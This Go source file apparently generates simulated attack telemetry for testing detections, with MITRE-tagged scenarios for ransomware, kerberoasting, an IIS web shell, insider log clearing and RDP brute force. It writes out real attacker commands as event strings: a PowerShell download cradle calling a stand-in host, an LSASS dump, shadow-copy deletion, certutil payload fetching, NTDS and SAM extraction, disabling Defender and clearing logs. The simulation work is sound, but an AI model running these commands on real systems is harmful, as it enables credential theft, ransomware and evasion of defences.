package scenario

import "encoding/base64"

// encoded is a PowerShell command as -EncodedCommand takes it: UTF-16, little
// endian, in base64.
func encoded(script string) string {
	wide := make([]byte, 0, 2*len(script))
	for i := range len(script) {
		wide = append(wide, script[i], 0)
	}
	return base64.StdEncoding.EncodeToString(wide)
}

// The programs that attackers bring.
var (
	pLoader    = prog(`C:\Users\Public\sync.exe`, "sync.exe", "-", "-", "-", `C:\Users\Public\sync.exe`, high)
	pEncryptor = prog(`C:\Windows\Temp\wk.exe`, "-", "-", "-", "-", `C:\Windows\Temp\wk.exe --all`, system)
	pRoaster   = prog(`C:\Users\Public\inv.exe`, "inv.exe", "-", "-", "-", `C:\Users\Public\inv.exe --spn`, medium)
	pSvcCmd    = prog(sys32+"cmd.exe", "Cmd.Exe", "Windows Command Processor", windows, vendor, `cmd.exe /c C:\Windows\Temp\wk.exe --all`, system)
)

const placeC2Name = "cdn-sync.example.net"

var ransomware = attack{
	name:   "phishing-ransomware",
	about:  "A document starts encoded PowerShell; credentials are dumped, a server is reached by a service, files are encrypted",
	length: 120,
	begin:  func(s *Scenario, r *running) { s.session(r.user) },
	stages: []stage{
		{name: "phishing document", technique: "T1566.001", repeat: 1, do: func(s *Scenario, r *running) {
			u := &s.fleet.users[r.user]
			r.tool = s.spawn(r.host, r.user, &u.shell, pWord, `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\%u\Downloads\invoice-%n.docm"`, 4711, u.logon)
			s.pause(3000, 20000)
		}},
		{name: "encoded PowerShell", technique: "T1059.001", repeat: 1, after: seconds(2, 20), do: func(s *Scenario, r *running) {
			u := &s.fleet.users[r.user]
			r.shell = s.spawn(r.host, r.user, &r.tool, pPowershell,
				`powershell.exe -NoP -W Hidden -enc `+encoded("IEX (New-Object Net.WebClient).DownloadString('https://"+placeC2Name+"/a')"), 0, u.logon)
			s.pause(400, 2000)
			to := place{placeC2Name, r.ip, 443}
			s.visit(r.host, &r.shell, &to, "", 0, 0)
			s.pause(100, 900)
			it := event(scriptBlock, r.host, r.user)
			it.proc = r.shell
			it.s1 = "$b = (New-Object Net.WebClient).DownloadData('https://" + placeC2Name + "/b'); $a = [Reflection.Assembly]::Load($b); $a.EntryPoint.Invoke($null, @(,$null))"
			s.put(&it)
		}},
		{name: "run key", technique: "T1547.001", repeat: 1, after: minutes(1, 3), do: func(s *Scenario, r *running) {
			it := event(sysmonRegistry, r.host, r.user)
			it.proc = r.shell
			it.s1 = `HKU\` + sidPrefix + `1104\Software\Microsoft\Windows\CurrentVersion\Run\Sync`
			it.s2 = `C:\Users\Public\sync.exe --background`
			s.put(&it)
		}},
		{name: "credential dump", technique: "T1003.001", repeat: 1, after: minutes(5, 15), do: func(s *Scenario, r *running) {
			u := &s.fleet.users[r.user]
			dump := s.spawn(r.host, r.user, &r.shell, pRundll, `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 704 C:\Users\Public\lsass.dmp full`, 0, u.logon)
			s.pause(200, 900)
			access := event(sysmonAccess, r.host, r.user)
			access.proc, access.parent, access.s1 = dump, s.boot(r.host, bootLsass), "0x1fffff"
			access.s2 = `C:\Windows\SYSTEM32\ntdll.dll+9e834|C:\Windows\System32\KERNELBASE.dll+2c13e|UNKNOWN(000001D2C2F71F00)`
			s.put(&access)
			s.pause(200, 900)
			file := event(sysmonFile, r.host, r.user)
			file.proc, file.s1 = dump, `C:\Users\Public\lsass.dmp`
			s.put(&file)
			s.exit(r.host, &dump, 500, 2000)
		}},
		{name: "lateral movement by service", technique: "T1021.002", repeat: 1, after: minutes(10, 25), do: func(s *Scenario, r *running) {
			r.next = s.fleet.files
			r.logon = s.remoteLogon(s.admin(r.user), r.host, r.next, 3)
			s.pause(200, 2000)
			it := event(securityShare, r.next, s.admin(r.user))
			it.ip, it.srcPort, it.s2, it.logon = s.fleet.hosts[r.host].ip, s.sourcePort(), "ADMIN$", r.logon
			s.put(&it)
			s.pause(500, 2000)
			service := event(systemService, r.next, -1)
			service.s1, service.s2 = "WinSync", `%%COMSPEC%% /c C:\Windows\Temp\wk.exe --all`
			s.put(&service)
			s.pause(200, 900)
			services := s.boot(r.next, bootServices)
			r.tool = s.spawn(r.next, -1, &services, pSvcCmd, "", 0, systemLogon)
			s.pause(50, 400)
			r.shell = s.spawn(r.next, -1, &r.tool, pEncryptor, "", 0, systemLogon)
		}},
		{name: "recovery removed", technique: "T1490", repeat: 1, after: seconds(5, 60), do: func(s *Scenario, r *running) {
			s.spawn(r.next, -1, &r.shell, pVssadmin, "vssadmin.exe delete shadows /all /quiet", 0, systemLogon)
		}},
		{name: "files encrypted", technique: "T1486", repeat: 60, after: seconds(2, 20), every: seconds(1, 4), do: func(s *Scenario, r *running) {
			for range 4 {
				it := event(sysmonFile, r.next, -1)
				it.proc, it.n, it.s1 = r.shell, uint64(s.r.below(100000)), `D:\team\project-%n\report.docx.locked`
				s.put(&it)
				s.pause(20, 200)
			}
		}},
	},
}

var kerberosServices = [...]string{"svc_sql", "svc_web", "svc_report", "svc_backup", "svc_scan", "svc_crm", "svc_print", "svc_sync", "svc_build", "svc_mail", "svc_hr", "svc_vpn"}

var kerberoasting = attack{
	name:   "kerberoasting",
	about:  "Tickets of service accounts are asked for with RC4, one password is cracked, and the directory is replicated with it",
	length: 180,
	begin:  func(s *Scenario, r *running) { s.session(r.user) },
	stages: []stage{
		{name: "service accounts listed", technique: "T1087.002", repeat: 1, do: func(s *Scenario, r *running) {
			u := &s.fleet.users[r.user]
			r.tool = s.spawn(r.host, r.user, &u.shell, pRoaster, "", 0, u.logon)
			s.pause(200, 900)
			s.connect(r.host, &r.tool, "dc-001."+dnsDomain, s.fleet.hosts[s.fleet.dc].ip, 389, "ldap_tcp", 0)
		}},
		{name: "tickets with RC4", technique: "T1558.003", repeat: len(kerberosServices), after: seconds(2, 10), every: seconds(1, 4), do: func(s *Scenario, r *running) {
			conn := s.connect(r.host, &r.tool, "dc-001."+dnsDomain, s.fleet.hosts[s.fleet.dc].ip, 88, "krb_tcp", 0)
			s.pause(1, 20)
			it := event(securityTicket, s.fleet.dc, r.user)
			it.s2, it.m, it.n = kerberosServices[r.round], 0x17, s.r.next()
			it.ip, it.srcPort = s.fleet.hosts[r.host].ip, conn.srcPort
			s.put(&it)
		}},
		{name: "cracked account used", technique: "T1078.002", repeat: 1, after: minutes(60, 120), do: func(s *Scenario, r *running) {
			dc := s.fleet.dc
			s.pause(10, 60)
			conn := s.connect(r.host, nil, "", s.fleet.hosts[dc].ip, 445, "smb", 0)
			r.logon = s.nextLogon(dc)
			it := event(securityLogon, dc, -1)
			it.s1, it.n, it.m, it.logon, it.peer = "svc_backup", 3, 3, r.logon, r.host
			it.ip, it.srcPort = s.fleet.hosts[r.host].ip, conn.srcPort
			s.put(&it)
		}},
		{name: "directory replicated", technique: "T1003.006", repeat: 3, after: minutes(1, 5), every: seconds(1, 5), do: func(s *Scenario, r *running) {
			rights := [...]string{"1131f6aa-9c07-11d1-f79f-00c04fc2dcd2", "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2", "89e95b76-444d-4c62-991a-0facbeda640c"}
			it := event(securityReplication, s.fleet.dc, -1)
			it.s1, it.n, it.s2, it.logon = "svc_backup", 3, rights[r.round], r.logon
			s.put(&it)
		}},
	},
}

var iisWebShell = attack{
	name:   "iis-web-shell",
	about:  "A script is written through a web form of IIS; it looks around, fetches tools, and copies the directory's database",
	length: 150,
	begin:  func(s *Scenario, r *running) { r.host = s.fleet.iis },
	stages: []stage{
		{name: "web shell written", technique: "T1505.003", repeat: 1, do: func(s *Scenario, r *running) {
			s.serve(r.host, r.ip, "POST", "/upload.aspx", 4)
			r.shell = s.boot(r.host, bootW3wp)
			it := event(sysmonFile, r.host, -1)
			it.proc, it.n, it.s1 = r.shell, 1, `C:\inetpub\wwwroot\uploads\status.aspx`
			s.put(&it)
		}},
		{name: "discovery through the shell", technique: "T1059.003", repeat: 4, after: minutes(2, 9), every: seconds(10, 60), do: func(s *Scenario, r *running) {
			commands := [...]string{"whoami /priv", "ipconfig /all", `net group "Domain Controllers" /domain`, "nltest /domain_trusts"}
			programs := [...]*program{pWhoami, pIpconfig, pNet, pNltest}
			s.serve(r.host, r.ip, "POST", "/uploads/status.aspx", 4)
			s.pause(20, 90)
			cmd := s.spawn(r.host, -1, &r.shell, pCmd, `cmd.exe /c `+commands[r.round], 0, systemLogon)
			s.pause(20, 90)
			p := s.spawn(r.host, -1, &cmd, programs[r.round], commands[r.round], 0, systemLogon)
			s.exit(r.host, &p, 100, 900)
		}},
		{name: "tools fetched", technique: "T1105", repeat: 1, after: minutes(5, 20), do: func(s *Scenario, r *running) {
			s.serve(r.host, r.ip, "POST", "/uploads/status.aspx", 4)
			cmd := s.spawn(r.host, -1, &r.shell, pCmd, `cmd.exe /c certutil -urlcache -f http://cdn-sync.example.net/t.exe C:\Windows\Temp\t.exe`, 0, systemLogon)
			s.pause(20, 90)
			p := s.spawn(r.host, -1, &cmd, pCertutil, `certutil -urlcache -f http://cdn-sync.example.net/t.exe C:\Windows\Temp\t.exe`, 0, systemLogon)
			to := place{placeC2Name, r.ip, 80}
			s.visit(r.host, &p, &to, "/t.exe", 0, 5)
			s.exit(r.host, &p, 500, 3000)
		}},
		{name: "directory copied", technique: "T1003.003", repeat: 1, after: minutes(20, 60), do: func(s *Scenario, r *running) {
			dc := s.fleet.dc
			logon := s.remoteLogon(s.admin(r.user), r.host, dc, 3)
			s.pause(500, 3000)
			wmi := s.boot(dc, bootWmi)
			cmd := s.spawn(dc, s.admin(r.user), &wmi, pCmd, `cmd.exe /Q /c ntdsutil "ac i ntds" ifm "create full C:\Windows\Temp\n" q q`, 0, logon)
			s.pause(20, 90)
			p := s.spawn(dc, s.admin(r.user), &cmd, pNtdsutil, `ntdsutil "ac i ntds" ifm "create full C:\Windows\Temp\n" q q`, 0, logon)
			s.exit(dc, &p, 10000, 60000)
		}},
	},
}

var insider = attack{
	name:   "insider-log-clearing",
	about:  "An administrator gives a second account rights, takes the local secrets of a server, and clears its logs",
	length: 120,
	begin: func(s *Scenario, r *running) {
		r.user = s.admin(r.user)
		r.host, r.next = s.fleet.users[r.user].desk, s.fleet.files
		s.session(r.user)
	},
	stages: []stage{
		{name: "remote desktop to a server", technique: "T1021.001", repeat: 1, do: func(s *Scenario, r *running) {
			r.logon = s.remoteLogon(r.user, r.host, r.next, 10)
			s.pause(2000, 9000)
			winlogon := s.boot(r.next, bootWinlogon)
			r.tool = s.spawn(r.next, r.user, &winlogon, pExplorer, "", 0, r.logon)
			s.pause(4000, 20000)
			r.shell = s.spawn(r.next, r.user, &r.tool, pCmd, "", 0, r.logon)
		}},
		{name: "account given rights", technique: "T1098.007", repeat: 1, after: minutes(2, 8), do: func(s *Scenario, r *running) {
			s.spawn(r.next, r.user, &r.shell, pNet, "net localgroup Administrators svc_scan2 /add", 0, r.logon)
			s.pause(20, 200)
			it := event(securityGroup, r.next, r.user)
			it.logon, it.s1, it.s2, it.s3 = r.logon, "svc_scan2", "Administrators", "S-1-5-32-544"
			s.put(&it)
		}},
		{name: "local secrets saved", technique: "T1003.002", repeat: 2, after: minutes(2, 8), every: seconds(4, 20), do: func(s *Scenario, r *running) {
			hives := [...]string{`reg save HKLM\SAM C:\Logs\a.bin`, `reg save HKLM\SYSTEM C:\Logs\b.bin`}
			p := s.spawn(r.next, r.user, &r.shell, pReg, hives[r.round], 0, r.logon)
			s.exit(r.next, &p, 300, 2000)
		}},
		{name: "data carried away", technique: "T1048", repeat: 5, after: minutes(5, 20), every: seconds(30, 120), do: func(s *Scenario, r *running) {
			to := place{"drop.example.net", r.ip, 443}
			s.visit(r.next, &r.shell, &to, "", 400e6, 0)
		}},
		{name: "logs cleared", technique: "T1685.005", repeat: 1, after: minutes(5, 20), do: func(s *Scenario, r *running) {
			p := s.spawn(r.next, r.user, &r.shell, pWevtutil, "wevtutil cl Security", 0, r.logon)
			s.pause(50, 400)
			it := event(securityCleared, r.next, r.user)
			it.logon = r.logon
			s.put(&it)
			s.exit(r.next, &p, 10, 200)
		}},
	},
}

var rdpBruteForce = attack{
	name:   "rdp-brute-force",
	about:  "Passwords are tried at an exposed server until one fits; a task stays, protection is switched off, a miner runs",
	length: 120,
	begin: func(s *Scenario, r *running) {
		r.host = s.fleet.windows[len(s.fleet.windows)-1]
		r.user = s.admin(r.user)
	},
	stages: []stage{
		{name: "passwords tried", technique: "T1110.001", repeat: 80, every: seconds(1, 6), do: func(s *Scenario, r *running) {
			names := [...]string{"administrator", "admin", "test", "backup", "scanner", "user"}
			conn := event(zeekConn, r.host, -1)
			conn.ip, conn.port, conn.srcPort, conn.s1, conn.s3, conn.n = r.ip, 3389, s.sourcePort(), "rdp", inbound, s.r.next()
			s.put(&conn)
			s.pause(100, 500)
			it := event(securityLogonFailed, r.host, -1)
			it.s1, it.m, it.ip, it.srcPort = names[s.r.below(len(names))], 3, r.ip, conn.srcPort
			s.put(&it)
		}},
		{name: "logon from outside", technique: "T1133", repeat: 1, after: seconds(2, 30), do: func(s *Scenario, r *running) {
			conn := event(zeekConn, r.host, -1)
			conn.ip, conn.port, conn.srcPort, conn.s1, conn.s3, conn.n = r.ip, 3389, s.sourcePort(), "rdp", inbound, s.r.next()
			s.put(&conn)
			s.pause(100, 900)
			r.logon = s.nextLogon(r.host)
			it := event(securityLogon, r.host, r.user)
			it.m, it.logon, it.ip, it.srcPort = 10, r.logon, r.ip, conn.srcPort
			s.put(&it)
			it.kind = securityPrivileges
			s.put(&it)
			s.pause(1000, 5000)
			winlogon := s.boot(r.host, bootWinlogon)
			r.tool = s.spawn(r.host, r.user, &winlogon, pExplorer, "", 0, r.logon)
			s.pause(3000, 9000)
			r.shell = s.spawn(r.host, r.user, &r.tool, pCmd, "", 0, r.logon)
		}},
		{name: "protection switched off", technique: "T1685", repeat: 1, after: minutes(1, 5), do: func(s *Scenario, r *running) {
			p := s.spawn(r.host, r.user, &r.shell, pReg, `reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f`, 0, r.logon)
			s.pause(20, 100)
			it := event(sysmonRegistry, r.host, r.user)
			it.proc, it.s1, it.s2 = p, `HKLM\SOFTWARE\Policies\Microsoft\Windows Defender\DisableAntiSpyware`, "DWORD (0x00000001)"
			s.put(&it)
			s.exit(r.host, &p, 100, 900)
		}},
		{name: "task that stays", technique: "T1053.005", repeat: 1, after: minutes(1, 5), do: func(s *Scenario, r *running) {
			p := s.spawn(r.host, r.user, &r.shell, pSchtasks, `schtasks /create /tn Sync /tr C:\Users\Public\sync.exe /sc minute /mo 10 /ru SYSTEM /f`, 0, r.logon)
			s.exit(r.host, &p, 100, 900)
		}},
		{name: "miner", technique: "T1496.001", repeat: 30, after: minutes(1, 5), every: seconds(50, 70), do: func(s *Scenario, r *running) {
			if r.round == 0 {
				netsvcs := s.boot(r.host, bootNetsvcs)
				r.tool = s.spawn(r.host, -1, &netsvcs, pLoader, "", 0, systemLogon)
			}
			to := place{"stratum1.pool.example.net", r.ip, 443}
			s.visit(r.host, &r.tool, &to, "", 0, 0)
		}},
	},
}
